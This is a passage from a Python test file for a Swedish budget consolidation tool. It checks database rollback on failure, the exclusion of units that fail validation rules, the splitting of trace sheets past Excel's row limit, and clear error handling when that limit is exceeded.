    before = con.execute("SELECT * FROM namndvarde ORDER BY 1, 2, 3, 4").fetchall()
    con.close()

    from budgetbook import history

    def fail(*a, **k):
        raise RuntimeError("strömavbrott")
    monkeypatch.setattr(history.History, "_insert_namnd", fail)
    write_unit(inbox / "1003.xlsx", "1003", rows=[(VUX, 150, -3999, 150, -3150, -4500, -4480)])
    with pytest.raises(RuntimeError):
        consolidate(tmp, inbox)
    con = sqlite3.connect(db)
    assert con.execute("SELECT * FROM namndvarde ORDER BY 1, 2, 3, 4").fetchall() == before
    assert con.execute("SELECT COUNT(*) FROM inlamning").fetchone() == (6,)
    con.close()


def test_a_unit_failing_a_cross_section_rule_is_left_out(office):
    tmp, inbox = office
    full_inbox(inbox)
    wb = openpyxl.load_workbook(inbox / "1003.xlsx")
    assert wb["Kostnadsslag"]["A11"].value == "Personalkostnader"
    wb["Kostnadsslag"]["B11"].value = -3250  # Nettoresultat no longer equals Ekonomi's Summa netto
    wb.save(inbox / "1003.xlsx")
    rc, out = consolidate(tmp, inbox)
    assert rc == 1
    assert status_rows(out)["1003"][0]["Status"] == EXCLUDED
    assert any(f[0] == "1003" and f[2] == "XREF-001" for f in status_block(out, "Fynd per enhet"))
    # what is left still holds every rule on the nämnd's own workbook
    assert status_block(out, "Kontroll av nämndens arbetsbok")[0][0].startswith("Inga avvikelser")


def _sum_rule_merged() -> bool:
    from budgetbook.catalogue import all_codes
    return "SUM-001" in all_codes()


@pytest.mark.skipif(not _sum_rule_merged(), reason="SUM-001 (sum validators) not merged yet")
def test_a_unit_with_a_wrong_summa_is_left_out(office):
    tmp, inbox = office
    full_inbox(inbox)
    wb = openpyxl.load_workbook(inbox / "1002.xlsx")
    ws = wb["Investeringar"]
    total = next(r for r in range(5, ws.max_row + 1) if ws.cell(r, 2).value == "Totalt")
    ws.cell(total, 4).value = -999  # typed over the SUM formula, and wrong
    wb.save(inbox / "1002.xlsx")
    rc, out = consolidate(tmp, inbox)
    assert rc == 1
    assert status_rows(out)["1002"][0]["Status"] == EXCLUDED
    assert any(f[0] == "1002" and f[2] == "SUM-001" for f in status_block(out, "Fynd per enhet"))


def test_spårbarhet_continues_on_new_sheets_past_excels_last_row(office, monkeypatch):
    """A roll-up of many units passes Excel's 1 048 576 rows: the trace continues on
    Spårbarhet 2, 3 … with the same header, and no row is lost (limit made small here)."""
    from budgetbook.excel import namnd_writer

    tmp, inbox = office
    full_inbox(inbox)
    rc, whole = consolidate(tmp, inbox, out="hel.xlsx")
    assert rc == 0
    all_rows = list(openpyxl.load_workbook(whole)[TRACE_SHEET].iter_rows(values_only=True))
    monkeypatch.setattr(namnd_writer, "TRACE_ROWS_PER_SHEET", 40)
    rc, split = consolidate(tmp, inbox, out="delad.xlsx")
    assert rc == 0
    wb = openpyxl.load_workbook(split)
    names = namnd_writer.trace_sheet_names(len(all_rows) - 1)
    assert len(names) > 2 and [n for n in wb.sheetnames if n.startswith(TRACE_SHEET)] == names
    parts = [list(wb[n].iter_rows(values_only=True)) for n in names]
    assert all(p[0] == all_rows[0] and 1 < len(p) <= 41 for p in parts)
    assert [r for p in parts for r in p[1:]] == all_rows[1:]
    assert len({t.displayName for n in names for t in wb[n].tables.values()}) == len(names)


def test_a_sheet_with_more_rows_than_excel_holds_is_a_clear_error_and_nothing_is_replaced(office, monkeypatch,
                                                                                           capsys):
    """More rows than a sheet holds (here made small) cannot be written: a message in
    Swedish and exit status 1, not a traceback, and the previous output stays."""
    from budgetbook.excel import xlsx_out

    tmp, inbox = office
    full_inbox(inbox)
    (tmp / "namnd.xlsx").write_bytes(b"den tidigare versionen")
    monkeypatch.setattr(xlsx_out, "EXCEL_ROWS", 20)
    rc, out = consolidate(tmp, inbox)
    assert rc == 1 and out.read_bytes() == b"den tidigare versionen"
    assert "fler rader än ett Excelblad rymmer" in " ".join(capsys.readouterr().err.split())
